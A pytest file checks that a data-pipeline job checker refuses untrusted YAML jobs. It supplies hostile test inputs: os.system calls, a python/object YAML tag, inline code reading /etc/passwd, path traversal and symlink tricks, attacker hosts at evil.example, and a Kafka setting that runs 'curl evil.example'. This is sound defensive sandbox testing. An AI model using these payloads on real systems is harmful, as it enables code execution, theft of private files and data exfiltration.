"""Attacks in the job of a stranger: each is refused before anything runs, with its place."""

from __future__ import annotations

import pickle
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tocsin.compiler.checker import check_text
from tocsin.compiler.diagnostics import JobError
from tocsin.foundation.failure import Failure
from tocsin.foundation.sandbox import FOLDERS_VARIABLE, HOSTS_VARIABLE

ROOT = Path(__file__).parents[2]
READ = "{type: ReadFiles, config: {files: readings.parquet, event_time: at}}"
KAFKA = "topic: t, schema: air.avsc, event_time: observed_at"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A stranger's folder, where `check` runs; outside is a file that the job must not read."""
    folder = tmp_path / "stranger"
    folder.mkdir()
    shutil.copy(ROOT / "tests/errors/readings.parquet", folder)
    shutil.copy(ROOT / "tests/errors/readings.parquet", tmp_path / "private.parquet")
    shutil.copy(ROOT / "schemas/air_reading.avsc", folder / "air.avsc")
    shutil.copy(ROOT / "schemas/air_reading.avsc", tmp_path / "private.avsc")
    (folder / "link.parquet").symlink_to(tmp_path / "private.parquet")
    (folder / "deep" / "down").mkdir(parents=True)
    (folder / "linked").symlink_to(tmp_path)
    monkeypatch.chdir(folder)
    for name in (HOSTS_VARIABLE, FOLDERS_VARIABLE, "TOCSIN_BROKERS"):
        monkeypatch.delenv(name, raising=False)
    return folder


def refusal(home: Path, *steps: str, top: str = "", trusted: bool = False) -> str:
    """The sentences of the refusal."""
    listed = "\n".join(f"    - {step}" for step in steps)
    text = f"pipeline:\n  type: chain\n  transforms:\n{listed}\n{top}"
    with pytest.raises(JobError) as wrong:
        check_text(str(home / "job.yaml"), text, trusted=trusted)
    return "\n".join(str(problem) for problem in wrong.value.problems)


CODE = {
    "a provider package": (
        "",
        "providers: [{type: pythonPackage, config: {packages: [evil]}, transforms: {X: evil.X}}]",
    ),
    "a provider of inline YAML": (
        "",
        "providers: [{type: yaml, transforms: {X: {body: {type: PyTransform}}}}]",
    ),
    "an include": ("", "providers: [{include: 'http://evil.example/p.yaml'}]"),
    "PyTransform": ("{type: PyTransform, config: {constructor: os.system, args: [id]}}", ""),
    "inline Python": (
        (
            "{type: MapToFields, config: {language: python, "
            "fields: {x: 'open(\"/etc/passwd\").read()'}}}"
        ),
        "",
    ),
    "inline JavaScript": (
        "{type: MapToFields, config: {language: javascript, fields: {x: 'process.env'}}}",
        "",
    ),
    "a callable": ("{type: MapToFields, config: {fields: {x: {callable: 'lambda row: 1'}}}}", ""),
    "a file of Python": (
        "{type: MapToFields, config: {fields: {x: {path: evil.py, name: f}}}}",
        "",
    ),
    "an SQL engine": ("{type: Sql, config: {query: SELECT 1}}", ""),
    "a Java transform": ("{type: JavaTransform, config: {}}", ""),
    "a reader of Beam's own": ("{type: ReadFromText, config: {path: /etc/passwd}}", ""),
    "a writer of Beam's own": ("{type: WriteToJson, config: {path: /tmp/out}}", ""),
    "a module by its path": ("{type: ../../evil, config: {}}", ""),
    "a module by its dotted name": ("{type: os.system, config: {}}", ""),
}


@pytest.mark.parametrize("trick", CODE)
def test_code_is_refused(trick: str, home: Path) -> None:
    step, top = CODE[trick]
    steps = [READ, "{type: ToRows}", step] if step else [READ]
    refused = refusal(home, *steps, top=top)
    assert "brings code into a job" in refused or "no step type" in refused


def test_options_of_beam_are_refused(home: Path) -> None:
    for option in (
        "setup_file: evil.py",
        "extra_packages: [evil]",
        "environment_config: 'evil:1'",
        "job_endpoint: evil:1",
    ):
        assert "option" in refusal(home, READ, top=f"options: {{{option}}}")


def test_jinja_is_text(home: Path) -> None:
    refused = refusal(
        home, "{type: ReadFiles, config: {files: '{{ 7 * 7 }}.parquet', event_time: at}}"
    )
    assert "{{ 7 * 7 }}.parquet" in refused


def test_tags_of_yaml_make_no_objects(home: Path) -> None:
    refused = refusal(home, "{type: !!python/object/apply:os.system [id]}")
    assert "job.yaml:" in refused


FILES = {
    "an absolute path": "{type: ReadFiles, config: {files: PRIVATE.parquet, event_time: at}}",
    "a path upwards": "{type: ReadFiles, config: {files: ../private.parquet, event_time: at}}",
    "a link": "{type: ReadFiles, config: {files: link.parquet, event_time: at}}",
    "a path upwards behind a glob": (
        "{type: ReadFiles, config: {files: 'deep/*/../../../private.parquet', event_time: at}}"
    ),
    "a path upwards behind a question mark": (
        "{type: ReadFiles, config: {files: '?eep/../../privat[e].parquet', event_time: at}}"
    ),
    "a link behind a glob": "{type: ReadFiles, config: {files: 'l*.parquet', event_time: at}}",
    "a folder that is a link": (
        "{type: ReadFiles, config: {files: 'linked/private.parquet', event_time: at}}"
    ),
    "a folder that is a link behind a glob": (
        "{type: ReadFiles, config: {files: '*/private.parquet', event_time: at}}"
    ),
    "a schema": (
        "{type: ReadTelemetry, config: "
        "{topic: t, schema: ../private.avsc, event_time: observed_at}}"
    ),
}


@pytest.mark.parametrize("trick", FILES)
def test_files_outside_of_the_job_folders_are_refused(
    trick: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    step = FILES[trick].replace("PRIVATE", str(home.parent / "private"))
    assert "not in the job's folders" in refusal(home, step)
    monkeypatch.setenv(FOLDERS_VARIABLE, str(home.parent))
    text = f"pipeline:\n  type: chain\n  transforms:\n    - {step}\n"
    assert check_text(str(home / "job.yaml"), text)[0].steps


def test_a_file_that_becomes_a_link_after_the_check_is_not_opened(home: Path) -> None:
    text = f"pipeline:\n  type: chain\n  transforms:\n    - {READ}\n"
    job, _ = check_text(str(home / "job.yaml"), text)
    source = pickle.loads(pickle.dumps(job.steps[0].part))
    (split,) = source.splits(live=False)
    (home / "readings.parquet").unlink()
    (home / "readings.parquet").symlink_to(home.parent / "private.parquet")
    with pytest.raises(Failure, match="not in the job's folders"):
        next(iter(source.read(split, 0)))


@given(st.lists(st.sampled_from(["*", "..", "deep", "down", "linked", "?", "**", "."]), max_size=6))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_pattern_of_pieces_finds_a_file_outside(home: Path, pieces: list[str]) -> None:
    pattern = "/".join([*pieces, "private.parquet"])
    step = f"{{type: ReadFiles, config: {{files: '{pattern}', event_time: at}}}}"
    refused = refusal(home, step)
    assert "not in the job's folders" in refused or "no file matches" in refused


def test_a_job_in_the_root_of_a_disk_has_no_folder(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir("/")
    step = f"{{type: ReadFiles, config: {{files: {home}/readings.parquet, event_time: at}}}}"
    text = f"pipeline:\n  transforms:\n    - {step}\n"
    with pytest.raises(JobError, match="not in the job's folders"):
        check_text("/job.yaml", text)


def read(setting: str) -> str:
    """A source with one more setting."""
    return f"{{type: ReadTelemetry, config: {{{KAFKA}, {setting}}}}}"


HOSTS = {
    "a broker": read("kafka: {brokers: 'evil.example:9092'}"),
    "a second broker": read("kafka: {brokers: 'localhost:9092,evil.example:9092'}"),
    "a registry": (
        "{type: ReadTelemetry, config: "
        "{topic: t, registry: {url: 'http://evil.example'}, event_time: at}}"
    ),
    "a registry behind a user name": (
        "{type: ReadTelemetry, config: "
        "{topic: t, registry: {url: 'http://localhost@evil.example'}, event_time: at}}"
    ),
}


@pytest.mark.parametrize("trick", HOSTS)
def test_hosts_are_refused_unless_the_operator_allows_them(trick: str, home: Path) -> None:
    refused = refusal(home, HOSTS[trick])
    assert "the host 'evil.example' is not allowed here" in refused


def test_the_operator_allows_hosts_by_pattern(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, "*.city.example")
    step = read("kafka: {brokers: 'kafka.city.example:9092'}")
    assert check_text(str(home / "job.yaml"), f"pipeline:\n  transforms:\n    - {step}\n")[0].steps


SETTINGS = {
    "a library": ("plugin.library.paths: /tmp/evil.so", "may not set 'plugin.library.paths'"),
    "a command": (
        "sasl.kerberos.kinit.cmd: 'curl evil.example'",
        "may not set 'sasl.kerberos.kinit.cmd'",
    ),
    "other brokers": ("bootstrap.servers: 'evil.example:9092'", "may not set 'bootstrap.servers'"),
    "a token's address": (
        "sasl.oauthbearer.token.endpoint.url: 'http://evil.example'",
        "may not set",
    ),
    "no check of certificates": ("enable.ssl.certificate.verification: false", "may not set"),
    "a password in the open": ("sasl.password: hunter2", "is a secret and must not stand in a job"),
    "a file where no secret is": ("client.id: 'file:/etc/passwd'", "is no secret"),
    "a variable where no secret is": ("client.id: 'env:HOME'", "is no secret"),
}


@pytest.mark.parametrize("trick", SETTINGS)
def test_unknown_settings_of_kafka_are_refused(trick: str, home: Path) -> None:
    setting, sentence = SETTINGS[trick]
    refused = refusal(
        home,
        read(f"kafka: {{brokers: 'localhost:1', settings: {{{setting}}}}}"),
    )
    assert sentence in refused
    assert "hunter2" not in refused


def test_a_secret_of_the_environment_is_refused_in_a_job(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KAFKA_PASSWORD", "hunter2")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
    for name in ("KAFKA_PASSWORD", "AWS_SECRET_ACCESS_KEY"):
        refused = refusal(
            home,
            f"{{type: ReadTelemetry, config: {{topic: 'x-${{{name}}}', "
            "schema: air.avsc, event_time: observed_at}}",
        )
        assert "looks like a secret" in refused
        assert "hunter2" not in refused


def test_a_lake_stays_in_the_folders_of_the_operator(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(FOLDERS_VARIABLE, str(home / "lakes"))
    for lake in (f"{home.parent}/elsewhere", "../elsewhere", f"file://{home.parent}/elsewhere"):
        refused = refusal(
            home, READ, f"{{type: WriteToLake, config: {{lake: '{lake}', dataset: a}}}}"
        )
        assert "none of the folders that the operator allowed" in refused


def test_a_dataset_is_a_name(home: Path) -> None:
    for dataset in ("../up", "/etc", "a/b", "..", "a\\0b"):
        assert (
            "dataset"
            in refusal(
                home, READ, f'{{type: WriteToLake, config: {{lake: lake, dataset: "{dataset}"}}}}'
            ).lower()
        )
